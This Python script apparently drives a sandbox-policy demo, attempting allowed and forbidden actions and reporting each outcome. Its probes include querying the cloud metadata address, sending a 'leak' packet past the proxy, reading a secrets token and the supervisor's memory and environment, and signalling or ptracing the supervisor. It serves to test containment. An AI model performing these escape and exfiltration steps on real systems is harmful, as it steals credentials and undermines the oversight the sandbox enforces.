"""The workload of the demo: tries what it may and what it may not, one line each."""
import ctypes
import os
import signal
import socket
import subprocess
import sys
import time


def curl(label, *args):
    shown = subprocess.run(
        ["curl", "-sS", "-m", "8", "-o", "/tmp/body", "-w", "%{http_code}", *args], capture_output=True, text=True
    )
    body = ""
    if os.path.exists("/tmp/body"):
        with open("/tmp/body", encoding="utf8", errors="replace") as file:
            body = file.read(400).strip()
        os.unlink("/tmp/body")
    code = shown.stdout if shown.stdout != "000" else "connect"
    reason = body if body.startswith('{"error"') else ""
    say(label, f"{code} {reason}".strip())


def say(label, outcome):
    print(f"demo {label}: {outcome}", flush=True)


def attempt(label, action):
    try:
        say(label, f"SUCCEEDED {action()!r:.60}")
    except OSError as error:
        say(label, f"refused ({error.strerror or error})")


def read(path):
    with open(path, "rb") as file:
        return file.read(64)


def write(path):
    with open(path, "w", encoding="utf8") as file:
        return file.write("x")


def raw_connection():
    with socket.socket() as made:
        made.settimeout(3)
        made.connect(("198.51.100.20", 80))


def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.sendto(b"leak", ("198.51.100.20", 53))


def trace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0) < 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


supervisor = os.getppid()
curl("allowed host", "http://api.allowed.test/")
curl("allowed host over CONNECT", "-k", "https://api.allowed.test/")
curl("another host", "http://other.test/")
curl("another port", "http://api.allowed.test:8080/")
curl("metadata address", "http://169.254.169.254/latest/meta-data/")
curl("metadata address behind an allowed wildcard", "http://metadata.wild.test/")
curl("internal address behind an allowed wildcard", "http://internal.wild.test/")
curl("public address behind an allowed wildcard", "http://public.wild.test/")
try:
    import urllib.request

    urllib.request.urlopen("http://api.allowed.test/", timeout=8)
    say("another binary", "SUCCEEDED")
except Exception as error:  # the proxy's 403 is an HTTPError
    say("another binary", str(getattr(error, "code", error)))
attempt("raw socket past the proxy", raw_connection)
attempt("UDP packet", datagram)
attempt("write in the workspace", lambda: write("/sandbox/file"))
attempt("write in /tmp", lambda: write("/tmp/file"))
attempt("write in /var/log", lambda: write("/var/log/file"))
attempt("write in /etc", lambda: write("/etc/file"))
attempt("read the token", lambda: read("/run/secrets/openshell/token"))
attempt("read the supervisor's memory", lambda: read(f"/proc/{supervisor}/mem"))
attempt("read the supervisor's environment", lambda: read(f"/proc/{supervisor}/environ"))
attempt("read the environment of PID 1", lambda: read("/proc/1/environ"))
attempt("signal the supervisor", lambda: os.kill(supervisor, signal.SIGTERM))
attempt("signal PID 1", lambda: os.kill(1, signal.SIGTERM))
attempt("signal everybody", lambda: os.kill(-1, 0))
attempt("trace the supervisor", lambda: trace(supervisor))
say("first part", "done")

# Until the policy opens other.test: the gateway goes away and comes back meanwhile.
last = ""
for _ in range(240):
    shown = subprocess.run(
        ["curl", "-s", "-m", "8", "-o", "/dev/null", "-w", "%{http_code}", "http://other.test/"],
        capture_output=True,
        text=True,
    )
    if shown.stdout != last:
        last = shown.stdout
        say("other.test now answers", last)
    if last == "200":
        break
    time.sleep(0.5)
sys.exit(7)
